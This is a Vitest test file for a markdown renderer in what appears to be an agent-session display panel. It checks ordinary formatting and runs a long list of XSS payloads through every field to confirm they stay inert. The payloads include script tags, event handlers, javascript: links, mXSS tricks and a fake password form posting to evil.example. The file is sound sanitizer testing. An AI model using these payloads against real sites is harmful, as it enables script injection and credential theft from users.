// @vitest-environment jsdom
// Markdown: what people write looks as it should, and what attackers write does nothing.

import { describe, expect, it } from 'vitest';
import { card, drawn, Panel, snapshot } from './helpers.ts';

async function message(text: string, kind: 'message' | 'plan' = 'message'): Promise<HTMLElement> {
  const cards = [card(kind, 'm', { text })];
  const { el } = await new Panel(snapshot({ status: 'completed' }, cards)).initialize().show();
  return el.querySelector('.cdx-md') as HTMLElement;
}

describe('markdown', () => {
  it('becomes elements', async () => {
    const el = await message(
      '# Title\n\nSome **bold**, *it*, ~~gone~~, `co<de` and\\\nbreak.\n\n1. a\n   - b\n2. c\n\n- [x] done\n- [ ] open\n\n' +
        '| l | r |\n|:--|--:|\n| 1 | 2 |\n\n> quote\n\n---\n\n```js\nlet a = "<b>";\n```\n\nfish &amp; chips\n',
    );
    const seen = (selector: string) => el.querySelector(selector)?.textContent;
    expect(seen('h3')).toBe('Title');
    expect([seen('strong'), seen('em'), seen('del'), seen('p code')]).toEqual([
      'bold',
      'it',
      'gone',
      'co<de',
    ]);
    expect(seen('ol li ul li')).toBe('b');
    expect([...el.querySelectorAll('input')].map((box) => [box.checked, box.disabled])).toEqual([
      [true, true],
      [false, true],
    ]);
    expect(el.querySelector('td.cdx-md-right')?.textContent).toBe('2');
    expect(seen('blockquote')).toBe('quote');
    expect(seen('pre code')).toBe('let a = "<b>";');
    expect(el.querySelectorAll('br, hr')).toHaveLength(2);
    expect(el.textContent).toContain('fish & chips');
  });

  it('opens links in a new tab that cannot reach back', async () => {
    const el = await message(
      '[a](https://example.org/?a=1&amp;b=2) <https://b.example> www.c.example x@d.example',
    );
    const links = [...el.querySelectorAll('a')];
    expect(links.map((a) => a.href)).toEqual([
      'https://example.org/?a=1&b=2',
      'https://b.example/',
      'http://www.c.example/',
      'mailto:x@d.example',
    ]);
    for (const link of links) {
      expect(link.target).toBe('_blank');
      expect(link.rel).toBe('noopener noreferrer nofollow');
    }
  });

  it('shows the path of a cited file instead of a link that leads nowhere', async () => {
    const el = await message('[model.py](/home/ada/model.py:12)');
    expect(el.querySelector('a')).toBeNull();
    expect(el.querySelector('.cdx-md-path')?.getAttribute('title')).toBe('/home/ada/model.py:12');
  });

  it('shows images that came with the text, and no others', async () => {
    const el = await message(
      '![ok](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![far](https://evil.example/x.png)',
    );
    expect([...el.querySelectorAll('img')].map((img) => img.alt)).toEqual(['ok']);
    expect(el.textContent).toContain('[image not loaded: far]');
  });
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password><button>Stop</button></form>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x73;cript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\x01javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example)',
  '[x](blob:https://evil.example/1)',
  '[x](https://ok.example "onmouseover=alert(1) \\" autofocus onfocus=alert(1) x=\\"")',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<https://ok.example/"onmouseover="alert(1)>',
  '<javascript:alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '&lt;img src=x onerror=alert(1)&gt;',
  '[ref]\n\n[ref]: javascript:alert(1) "x"',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
];

const HARMLESS = new Set(
  'a blockquote br code del div em h3 h4 h5 h6 hr img input li ol p pre span strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'alt aria-label checked class disabled href rel src start target title type'.split(' '),
);

const both = ATTACKS.flatMap((text) => [['message', text] as const, ['plan', text] as const]);

describe('hostile text', () => {
  it.each(both)('is inert in a %s: %s', async (kind, text) => {
    const all = `${text}\n\nbefore ${text} after\n\n- ${text}\n\n> ${text}`;
    const el = await message(all, kind);
    for (const node of el.querySelectorAll('*')) {
      expect(HARMLESS).toContain(node.localName);
      for (const { name, value } of node.attributes) {
        expect(ATTRIBUTES).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
        if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
        if (name === 'class') expect(value).toMatch(/^cdx-/);
      }
    }
  });

  it.each(ATTACKS)('is inert in every other field: %s', async (text) => {
    const times = { status: 'failed' };
    const cards = [
      card('user', '0', { text }),
      card('reasoning', '1', { text: `**${text}**`, raw_text: text }),
      card('command', '2', {
        command: text,
        output: text,
        exit_code: 1,
        elsewhere: text,
        ...times,
      }),
      card('files', '3', {
        changes: [
          {
            path: text,
            moved_to: text,
            change: text,
            diff: `@@ -1 +1 @@\n+${text}`,
            note: text,
            added: 1,
            removed: 0,
          },
        ],
        ...times,
      }),
      card('todo', '4', { items: [{ text, completed: false }], ...times }),
      card('tool', '5', { name: text, arguments: text, result: text, error: text, ...times }),
      card('agent', '6', { name: text, prompt: text, ...times }),
      card('search', '7', { query: text, action: text }),
      card('error', '8', { message: text }),
      card('activity', '11', { label: text }),
      card('unknown', '9', { type: text, raw: text, ...times }),
      { ...card('error', '10', { message: text }), kind: text } as never,
    ];
    const header = {
      status: 'failed',
      error: text,
      notices: [text],
      model: text,
      sandbox: text,
      output_type: text,
    } as const;
    const { el } = await new Panel(snapshot(header, cards)).initialize().show();
    for (const row of el.querySelectorAll<HTMLElement>('details:not([open]) > summary'))
      row.click();
    await drawn();
    expect(
      el.querySelectorAll(
        'script, iframe, object, embed, form, style, link, meta, base, img, math',
      ),
    ).toHaveLength(0);
    for (const node of el.querySelectorAll('*')) {
      for (const { name } of node.attributes) expect(name).not.toMatch(/^(on|style$)/);
    }
  });

  it('that would turn the line is written out', async () => {
    const el = await message('a \u202e b &#x202e; `\u2066`');
    expect(el.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(el.textContent).toContain('⟨U+202E⟩');
  });

  it('nested without end is shown as it is', async () => {
    const el = await message(`${'> '.repeat(400)}deep`);
    expect(el.textContent).toContain('deep');
    expect(el.querySelectorAll('blockquote').length).toBeLessThan(40);
  });
});
